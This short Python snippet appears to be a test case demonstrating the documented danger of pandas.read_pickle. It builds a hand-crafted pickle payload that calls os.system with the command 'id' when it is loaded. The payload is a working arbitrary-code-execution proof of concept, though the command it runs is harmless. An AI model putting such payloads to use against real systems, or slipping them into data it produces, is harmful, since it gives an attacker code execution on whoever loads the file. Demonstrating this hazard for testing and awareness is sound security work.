# Source: https://pandas.pydata.org/docs/reference/api/pandas.read_pickle.html (warning: loading pickled data can execute arbitrary code)
# Family: data-is-code
# What: pd.read_pickle on a crafted payload written by the strategy (reduce -> os.system)
import io
import pandas as pd

payload = b"cos\nsystem\n(S'id'\ntR."
pd.read_pickle(io.BytesIO(payload))
